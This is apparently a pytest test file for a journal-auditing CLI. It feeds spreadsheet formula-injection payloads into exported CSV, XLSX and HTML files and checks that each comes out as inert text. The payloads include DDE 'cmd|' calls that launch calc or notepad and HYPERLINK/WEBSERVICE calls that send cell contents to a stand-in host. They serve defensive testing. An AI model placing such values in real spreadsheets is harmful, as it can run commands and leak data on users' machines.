"""What a spreadsheet would take for a formula comes out as text in every file that is written, whatever column it stands in."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from auditor.cli import cli
from journal.exporting import HEADER, as_csv, good_row

CALLS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"mehr")', "SUM(A1:A9)", 'WEBSERVICE("http://x.example")', "DDE(\"cmd\";\"/C calc\";\"1\")",
    'IMPORTXML("http://x.example","//a")', "A1", "2+5+cmd|' /C notepad'!A0", "-3+3+cmd|' /C calc'!D2",
)  # fmt: skip
PAYLOADS = [start + call for start in ("=", "+", "-", "@", "'=") for call in CALLS]
COLUMNS = (
    "district",
    "office",
    "application_no",
    "service",
    "channel",
    "step",
    "role",
    "employee",
    "entry_no",
    "outcome",
    "note",
)
DANGEROUS = re.compile(r"^[=+\-@\t\r\n]")
A_NUMBER = re.compile(r"^-?[0-9]+([.][0-9]+)?$")


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every file that the commands write of a journal full of formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    rows = []
    for at, payload in enumerate(PAYLOADS):
        for column in (COLUMNS[at % len(COLUMNS)], COLUMNS[(at + 5) % len(COLUMNS)], "district"):
            row = good_row(len(rows))
            row[HEADER.index(column)] = payload
            rows.append(row)
            broken = list(row)
            broken[8] = payload  # no moment: set aside, its line begins with a formula where the district does
            rows.append(broken)
    (folder / "journal.csv").write_text(as_csv(rows), encoding="utf-8")
    list_rows = "number,date,office,district\n" + "".join(
        ",".join('"' + text.replace('"', '""') + '"' for text in (payload, "2018-03-05", payload, payload)) + "\n"
        for payload in PAYLOADS
    )
    (folder / "list.csv").write_text(list_rows, encoding="utf-8")
    (folder / "list.yaml").write_text(
        "application_no: number\nregistered_on: date\noffice: office\ndistrict: district\n"
    )
    journal, out = str(folder / "journal.csv"), folder / "out"
    moment = ["--as-of", "2018-06-01"]
    for command in (
        ["audit", journal, *moment, "--out", str(out / "audit"), "--show-names", "--fail-on", "never"],
        ["table", "16", journal, "--month", "2018-03", *moment, "--out", str(out / "16.xlsx")],
        ["table", "17", journal, "--month", "2018-03", *moment, "--out", str(out / "17.xlsx")],
        ["reconcile", str(folder / "list.csv"), journal, *moment, "--out", str(out / "reconcile")],
    ):
        ended = CliRunner().invoke(cli, command)
        assert ended.exit_code in (0, 1), (command, ended.output, ended.exception)
    return out


def test_no_cell_of_a_csv_file_begins_like_a_formula(written: Path) -> None:
    files = sorted(written.rglob("*.csv"))
    assert {"findings.csv", "quarantine.csv", "reconcile.csv"} <= {file.name for file in files}
    guarded = 0
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as text:
            for line, cells in enumerate(csv.reader(text), start=1):
                wrong = [cell for cell in cells if DANGEROUS.match(cell) and not A_NUMBER.match(cell)]
                assert not wrong, f"{file.name}:{line}: {wrong}"
                guarded += sum(cell.startswith(("'=", "'+", "'-", "'@", "''=")) for cell in cells)
    assert guarded > 2 * len(PAYLOADS)


def test_no_workbook_has_a_formula_a_link_or_a_connection(written: Path) -> None:
    files = sorted(written.rglob("*.xlsx"))
    assert {"findings.xlsx", "16.xlsx", "17.xlsx"} <= {file.name for file in files}
    texts = ""
    for file in files:
        with zipfile.ZipFile(file) as book:
            names = book.namelist()
            assert not [name for name in names if "externalLink" in name or "connections" in name], file.name
            for name in names:
                xml = book.read(name).decode("utf-8", "replace")
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    assert not re.search(r"<f[ >/]", xml), f"{file.name}: {name} has a formula"
                    links = re.findall(r"<hyperlink [^>]*>", xml)
                    assert not [link for link in links if "location=" not in link], f"{file.name}: {name} links out"
                texts += xml
    assert "cmd|" in texts, "the formulas are there, as texts"


def test_pages_show_them_as_text(written: Path) -> None:
    for file in sorted(written.rglob("*.html")):
        assert not re.search(
            r"""href=["']?\s*(?:javascript|data|http)""", file.read_text(encoding="utf-8"), re.IGNORECASE
        ), file.name
